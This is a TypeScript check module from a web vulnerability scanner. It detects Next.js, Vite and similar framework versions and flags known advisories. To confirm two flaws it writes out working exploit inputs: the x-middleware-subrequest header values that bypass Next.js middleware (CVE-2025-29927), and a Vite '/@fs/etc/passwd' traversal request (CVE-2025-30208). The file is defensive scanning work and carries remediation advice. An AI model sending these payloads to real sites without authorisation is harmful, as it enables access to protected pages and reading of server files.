import advisoryData from '../data/framework-advisories.json';
import { header } from '../http/headers';
import { advisoryIds, isAffected, maxSeverity, type Advisory, type AdvisoryDatabase } from '../analysis/js-libraries';
import { buildManifestRoutes, detectFrameworks, FRAMEWORK_PROBE, frameworkProbes, type DetectedFramework } from '../analysis/frameworks';
import { formatRequest, formatResponse, isSoft404, maskSecrets } from '../analysis/probe-answers';
import { defineCheck, type Exchange, type FindingDraft, type ProbeRequest, type Site, type SiteBeforeProbes } from '../types';

const ID = 'framework-vulnerable-version';

/** A framework advisory: the js-advisories shape plus when it applies and how it can be proved read-only. */
export interface FrameworkAdvisory extends Advisory {
  requires?: 'app-router' | 'dev-server';
  confirm?: 'middleware-subrequest' | 'vite-fs';
}

interface FrameworkDatabase extends Omit<AdvisoryDatabase, 'libraries'> {
  libraries: Record<string, { name: string; npm: string; vulnerabilities: FrameworkAdvisory[] }>;
}

export const FRAMEWORK_ADVISORIES = advisoryData as unknown as FrameworkDatabase;

/** Protected pages tried for the middleware bypass: each costs one plain request and up to three with the header. */
const MAX_PROTECTED = 3;
const FALLBACK_PROTECTED = ['/dashboard', '/admin'];
const SUBREQUEST_NEW = ['middleware:middleware:middleware:middleware:middleware', 'src/middleware:src/middleware:src/middleware:src/middleware:src/middleware'];
/** Next.js before 12.2 named the middleware after its pages folder file. */
const SUBREQUEST_OLD = 'pages/_middleware';
/** A file every Linux host has and that holds no secret: enough to prove /@fs/ reads outside the project. */
const VITE_FS_PATH = '/@fs/etc/passwd?import&raw??';

/** The advisories that apply to a detected framework at its version and with the features it shows. */
export function frameworkAdvisories(found: DetectedFramework): FrameworkAdvisory[] {
  if (!found.version) return [];
  const list = FRAMEWORK_ADVISORIES.libraries[found.key]?.vulnerabilities ?? [];
  return list.filter((advisory) => {
    if (advisory.requires === 'app-router' && !found.router?.includes('app')) return false;
    if (advisory.requires === 'dev-server' && !found.dev) return false;
    return isAffected(found.version!, advisory);
  });
}

const isRedirectOrDenied = (status: number) => (status >= 300 && status < 400) || status === 401 || status === 403;

function pathOf(url: string): string | undefined {
  try {
    const parsed = new URL(url);
    return parsed.pathname + parsed.search;
  } catch {
    return undefined;
  }
}

/** Pages the crawl saw guarded (redirected elsewhere, 401, 403), else a couple of usual dashboard paths. */
function protectedPaths(site: SiteBeforeProbes): string[] {
  const guarded = new Set<string>();
  for (const page of site.pages) {
    const first = page.exchange.redirects[0];
    const path = pathOf(page.exchange.url);
    if (!path || path === '/') continue;
    if ((first && pathOf(first.location) !== path) || page.exchange.status === 401 || page.exchange.status === 403) guarded.add(path);
  }
  return (guarded.size ? [...guarded] : FALLBACK_PROTECTED).slice(0, MAX_PROTECTED);
}

interface BypassPlan {
  path: string;
  plain: ProbeRequest;
  bypass: ProbeRequest[];
}

/** The CVE-2025-29927 test: plain GETs of guarded pages, and the same GETs with x-middleware-subrequest. */
function middlewarePlan(site: SiteBeforeProbes): BypassPlan[] {
  const next = detectFrameworks(site).find((f) => f.name === 'Next.js');
  if (!next) return [];
  const confirmable = (FRAMEWORK_ADVISORIES.libraries.nextjs?.vulnerabilities ?? []).filter((a) => a.confirm === 'middleware-subrequest');
  if (next.version && !confirmable.some((advisory) => isAffected(next.version!, advisory))) return [];
  const old = !next.version || isAffected(next.version, { below: '12.2.0' });
  const values = [...SUBREQUEST_NEW, ...(old ? [SUBREQUEST_OLD] : [])];
  return protectedPaths(site).map((path) => {
    const url = new URL(path, site.origin).href;
    return {
      path,
      plain: { key: `${ID}:mw:${path}`, method: 'GET', url, noRedirect: true },
      bypass: values.map((value, i) => ({ key: `${ID}:mw:${path}:${i}`, method: 'GET', url, noRedirect: true, headers: { 'x-middleware-subrequest': value } })),
    };
  });
}

function vitePlan(site: SiteBeforeProbes): ProbeRequest[] {
  const vite = detectFrameworks(site).find((f) => f.name === 'Vite' && f.dev);
  return vite ? [{ key: `${ID}:vite-fs`, method: 'GET', url: new URL(VITE_FS_PATH, site.origin).href }] : [];
}

function confirmedBypass(site: Site): { plan: BypassPlan; plain: Exchange; bypass: Exchange } | undefined {
  for (const plan of middlewarePlan(site)) {
    const plain = site.probes.get(plan.plain.key);
    if (!plain || plain.error || !isRedirectOrDenied(plain.status)) continue;
    for (const probe of plan.bypass) {
      const bypass = site.probes.get(probe.key);
      if (bypass && !bypass.error && bypass.status === 200 && !isSoft404(bypass, site.notFound)) return { plan, plain, bypass };
    }
  }
  return undefined;
}

function bypassFinding(site: Site, hit: { plan: BypassPlan; plain: Exchange; bypass: Exchange }): FindingDraft {
  const value =
    hit.bypass.requestHeaders['x-middleware-subrequest'] ?? hit.plan.bypass.find((p) => site.probes.get(p.key) === hit.bypass)?.headers?.['x-middleware-subrequest'] ?? '';
  const where = header(hit.plain.headers, 'location');
  return {
    url: hit.plain.url,
    severity: 'critical',
    confidence: 'high',
    title: `Next.js middleware bypass confirmed on ${hit.plan.path} (CVE-2025-29927)`,
    detail:
      `Without credentials, GET ${hit.plan.path} answers ${hit.plain.status}${where ? ` (to ${where})` : ''}; the same request with the header x-middleware-subrequest: ${value} answers 200 with the page. ` +
      'The middleware that guards it is skipped, so anything it protects (sign-in checks, rewrites, security headers) can be bypassed by anyone.',
    evidence: {
      request: `${formatRequest(hit.bypass)}\nx-middleware-subrequest: ${value}`,
      response:
        `Without the header:\n${formatResponse(hit.plain, { headers: ['location', 'content-type'], excerpt: '' })}\nWith the header:\n${formatResponse(hit.bypass, { headers: ['content-type', 'x-powered-by'], excerpt: maskSecrets(hit.bypass.body.slice(0, 600)) })}`.slice(
          0,
          8_000,
        ),
      match: `${hit.plain.status} → 200 with x-middleware-subrequest (GHSA-f82v-jwr5-mffw)`,
    },
    key: 'CVE-2025-29927',
  };
}

function viteFsFinding(site: Site): FindingDraft | undefined {
  const answer = site.probes.get(`${ID}:vite-fs`);
  if (!answer || answer.error || answer.status !== 200) return undefined;
  // Raw file, or Vite's ?raw module (export default "root:x:0:0:...\n...").
  const line = /(?:^|["\n]|\\n)(root:[^:\n"\\]*:0:0:[^\n"\\]*)/.exec(answer.body);
  if (!line) return undefined;
  return {
    url: answer.url,
    severity: 'high',
    confidence: 'high',
    title: 'Vite development server serves files outside the project (CVE-2025-30208)',
    detail: `GET ${VITE_FS_PATH} returned the server's /etc/passwd: the development server's file-system guard is bypassed, so any file the process can read (.env files, keys, source) can be downloaded.`,
    evidence: { request: formatRequest(answer), response: formatResponse(answer, { headers: ['content-type'], excerpt: line[1] }), match: line[1]! },
    key: 'CVE-2025-30208',
  };
}

function versionFinding(site: Site, found: DetectedFramework, advisories: FrameworkAdvisory[]): FindingDraft {
  const routes = found.name === 'Next.js' ? buildManifestRoutes(site.probes.get(FRAMEWORK_PROBE.buildManifest)) : [];
  const list = advisories.map((a) => `${a.severity.toUpperCase()} ${advisoryIds(a)}: ${a.identifiers.summary ?? 'see references'} (fixed in ${a.below})`).join('; ');
  const fixed = [...new Set(advisories.filter((a) => a.cwe.every((cwe) => cwe !== 'CWE-1104')).map((a) => a.below))];
  const links = [...new Set(advisories.flatMap((a) => a.info.slice(0, 1)))].slice(0, 12);
  return {
    url: site.finalUrl,
    severity: maxSeverity(advisories),
    confidence: 'medium',
    title: `${found.name} ${found.version} has known vulnerabilities`,
    detail:
      `${found.name} ${found.version} was identified from ${found.versionSource ?? found.evidence[0]}. Judged by the version only (tentative): ${advisories.length} advisor${advisories.length === 1 ? 'y applies' : 'ies apply'}: ${list}.` +
      (fixed.length ? ` Upgrade to the latest patch release of your major version (at least ${fixed.sort((a, b) => (a < b ? 1 : -1))[0]}).` : '') +
      (routes.length ? ` Routes in the build manifest: ${routes.slice(0, 15).join(', ')}.` : ''),
    evidence: { request: `GET ${site.finalUrl}`, response: `Detected: ${found.evidence.join('; ')}`.slice(0, 8_000), match: `${found.name} ${found.version}\n${links.join('\n')}` },
    key: `${found.key}@${found.version}`,
  };
}

export const frameworkVulnerableVersion = defineCheck({
  id: ID,
  family: 'frameworks',
  title: 'Web framework with known vulnerabilities',
  severity: 'high',
  confidence: 'medium',
  cwe: 1395,
  owasp: 'A03',
  description:
    'Matches the detected framework and version (Next.js, Nuxt, SvelteKit, Remix, Astro, Vite, Create React App) against framework advisories, and proves what can be proved read-only: the Next.js middleware bypass (CVE-2025-29927: a guarded page fetched with and without x-middleware-subrequest) and the Vite dev server /@fs/ bypass (CVE-2025-30208).',
  remediation:
    'Upgrade the framework to the latest patch release of its major version (npm install next@15 / nuxt@latest / @sveltejs/kit@latest / astro@latest, then rebuild and redeploy). Until a Next.js upgrade ships, strip the x-middleware-subrequest header at the proxy or CDN, and never rely on middleware alone for authorization: check the session again in the route handler, Server Component or API route. Never expose a development server (vite, next dev, nuxi dev) to the internet.',
  references: [
    'https://nextjs.org/blog/cve-2025-29927',
    'https://github.com/advisories/GHSA-f82v-jwr5-mffw',
    'https://nextjs.org/blog/CVE-2025-66478',
    'https://github.com/advisories/GHSA-x574-m823-4x7w',
    'https://github.com/vercel/next.js/security/advisories',
  ],
  probes(site) {
    return [...frameworkProbes(site).filter((p) => p.key === FRAMEWORK_PROBE.buildManifest), ...middlewarePlan(site).flatMap((p) => [p.plain, ...p.bypass]), ...vitePlan(site)];
  },
  appliesTo(site) {
    return detectFrameworks(site).length > 0;
  },
  run(site) {
    const findings: FindingDraft[] = [];
    const bypass = confirmedBypass(site);
    if (bypass) findings.push(bypassFinding(site, bypass));
    const viteFs = viteFsFinding(site);
    if (viteFs) findings.push(viteFs);
    for (const found of detectFrameworks(site)) {
      const advisories = frameworkAdvisories(found).filter((a) => !(bypass && a.confirm === 'middleware-subrequest') && !(viteFs && a.confirm === 'vite-fs'));
      if (advisories.length) findings.push(versionFinding(site, found, advisories));
    }
    return findings;
  },
});
